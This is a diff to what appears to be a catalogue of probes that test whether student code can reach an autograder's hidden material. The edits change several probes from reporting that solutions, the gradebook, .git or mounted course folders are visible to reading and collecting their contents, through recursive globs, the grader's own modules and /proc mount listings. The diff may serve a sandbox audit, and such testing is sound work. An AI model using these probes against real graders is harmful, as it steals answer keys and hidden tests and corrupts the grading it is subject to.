@@ -57,9 +57,7 @@ root = os.path.dirname(os.path.dirname(helpers.__file__))
 places = [root, os.getcwd(), *sys.path]
 for place in places:
     for name in ("solutions", "source", "autograder/mistakes", ".git"):
-        inside = quietly(os.listdir, os.path.join(place, name)) if place else []
-        if isinstance(inside, list) and inside:
-            boast(f"{name} lies in sight of a student's code")
+        for path in glob.glob(f"{place}/{name}/**/*", recursive=True)[:3000] if place else (): gain(read(path))
 """),
     of("gradebook-read", "Hidden tests are read out of the gradebook, which keeps the source of every locked cell.", """
 import sqlite3
@@ -223,7 +221,7 @@ for home in homes:
     of("instructors-programs", "The modules of the grader are imported to find the course.", """
 def look():
     from autograder.course import Course
-    for path in Course().root.glob("solutions/*/*.py"): boast("the course's solutions are in sight")
+    for path in Course().root.glob("solutions/**/*"): gain(read(path))
 quietly(look)
 gain(repr(sys.argv) + repr(getattr(sys, "orig_argv", "")) + repr(sys.path))
 """),
@@ -242,10 +240,7 @@ for path in ("/proc/sysvipc/shm", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc
     of("mounts-betray", "The places of the course are found in the list of mounts, and read.", """
 text = read("/proc/self/mountinfo").decode() + read("/proc/mounts").decode()
 for word in {w for line in text.splitlines() for w in line.split() if w.startswith("/")}:
-    if ("solutions" in word or "gradebook" in word or "submitted" in word):
-        boast("the list of mounts names " + os.path.basename(word))
-    for path in glob.glob(word + "/solutions/*/*.py") + glob.glob(word + "/gradebook.db"):
-        boast("the course can be reached through a mount")
+    for path in glob.glob(word + "/solutions/**/*", recursive=True) + glob.glob(word + "/gradebook.db") + [word]: gain(read(path))
 """),
     of("link-to-the-source", "numbers.csv in the hand-in is a symbolic link to the instructor's source.", """
 gain(read("numbers.csv"))
